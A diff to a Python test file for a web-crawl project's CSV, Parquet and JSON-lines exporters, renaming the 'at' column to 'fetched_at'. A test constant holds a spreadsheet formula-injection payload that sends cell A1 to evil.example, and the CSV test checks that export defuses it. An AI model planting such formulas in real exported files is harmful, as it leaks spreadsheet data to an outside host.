@@ -33,6 +33,7 @@ from crawlproject.pages.text.printable import printable
 from crawlproject.storage.page_files import item_schema
 
 NAMES = list(item_schema()["properties"])
+COLUMNS = ["fetched_at" if name == "at" else name for name in NAMES]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 GRAPH = "{http://graphml.graphdrawing.org/xmlns}"
 
@@ -76,7 +77,7 @@ def test_json_lines(crawl: Path) -> None:
 
 def test_csv_holds_no_formulas(crawl: Path) -> None:
     rows = list(csv.DictReader(io.StringIO(exported(crawl, "csv").read_bytes().decode(), newline="")))
-    assert list(rows[0]) == NAMES and len(rows) == 4
+    assert list(rows[0]) == COLUMNS and len(rows) == 4
     assert rows[0]["text"] == 'Coral, "reefs"\nand more' and json.loads(rows[0]["parts"]) == {"anchor": 0.25}
     assert rows[0]["parent"] == "" and rows[0]["relevance"] == "0.5"
     assert (rows[2]["title"], rows[2]["anchor"]) == ("'" + EVIL, "'@SUM(A1)")
@@ -85,9 +86,9 @@ def test_csv_holds_no_formulas(crawl: Path) -> None:
 
 def test_parquet(crawl: Path) -> None:
     table = parquet.read_table(exported(crawl, "parquet"))
-    assert table.column_names == NAMES and table.num_rows == 4
+    assert table.column_names == COLUMNS and table.num_rows == 4
     first = table.slice(0, 1).to_pylist()[0]
-    assert first["at"] == datetime(1970, 1, 1, 0, 16, 40, tzinfo=UTC) and first["parts"] == [("anchor", 0.25)]
+    assert first["fetched_at"] == datetime(1970, 1, 1, 0, 16, 40, tzinfo=UTC) and first["parts"] == [("anchor", 0.25)]
     assert (first["parent"], first["depth"], first["published"]) == (None, 0, "2024-03-09")
     assert np.isclose(table["relevance"].to_numpy(), [0.5, 0.25, 0.0, 0.5]).all()
 
